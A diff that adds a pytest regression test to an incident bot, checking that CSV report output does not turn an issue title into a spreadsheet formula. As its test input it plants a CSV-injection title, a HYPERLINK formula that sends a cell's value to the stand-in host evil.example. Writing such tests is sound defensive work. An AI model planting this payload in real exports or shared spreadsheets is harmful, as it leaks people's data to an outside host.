@@ -91,3 +91,32 @@ def test_sync_does_not_run_a_command_the_bot_said_it_gave_up_on(world, sync):  #
     code, _ = sync()
     assert code == 0
     assert world.kinds(iid).count("update") == 1, "sync ran the command the bot said it would not try again"
+
+
+# -- 5. An incident's title runs as a formula in the report's CSV ---------------------------------------
+# `--format csv` is for spreadsheets ("for charting elsewhere"). A title is person text that anyone who may
+# edit the issue sets; a cell that starts with "=", "+", "-" or "@" is a formula to Excel, LibreOffice and
+# Google Sheets (CSV injection: =HYPERLINK to send the sheet's figures away, or DDE on old Excel). The title
+# went into the cell as it is.
+def test_an_incident_title_is_no_formula_in_the_report_csv(world, monkeypatch, capsys):
+    import csv
+    import io
+    from datetime import datetime, timezone
+
+    from bot.cli import main
+    from bot.statekey import ensure_state_key
+
+    iid = world.declare(sev="sev3")
+    title = '=HYPERLINK("http://evil.example/?"&B2,"SSO logins failing")'
+    world.edit_issue(iid, who="rita", title=title)
+    today = datetime.now(timezone.utc).date().isoformat()
+    monkeypatch.setenv("GITLAB_URL", world.cfg.gitlab_url)
+    monkeypatch.setenv("GITLAB_TOKEN", world.cfg.gitlab_token)
+    monkeypatch.setenv("INCIDENT_BOT_STATE_KEY", ensure_state_key(world.cfg))
+    capsys.readouterr()
+    assert main(["report", "--project", world.project["path_with_namespace"], "--since", today, "--until", today,
+                 "--format", "csv"]) == 0
+    head = capsys.readouterr().out.split("\n\n", 1)[0]
+    (row,) = list(csv.DictReader(io.StringIO(head)))
+    assert "HYPERLINK" in row["title"]
+    assert row["title"][0] not in "=+-@\t\r", "a person's title is a formula in the spreadsheet"
